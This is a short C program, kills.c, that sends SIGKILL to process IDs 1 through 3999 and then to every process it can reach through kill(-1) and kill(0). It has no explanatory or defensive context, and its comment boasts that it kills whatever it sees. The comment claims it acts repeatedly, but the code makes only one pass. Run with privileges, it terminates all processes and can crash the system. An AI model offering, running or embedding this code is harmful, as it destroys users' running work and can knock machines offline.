/*
 * kills.c - kills whatever it sees, again and again
 */
#include <signal.h>
#include <sys/types.h>
#include <unistd.h>

int main(void)
{
    for (pid_t pid = 1; pid < 4000; pid++)
        if (pid != getpid())
            kill(pid, SIGKILL);
    kill(-1, SIGKILL);
    kill(0, SIGKILL);
}
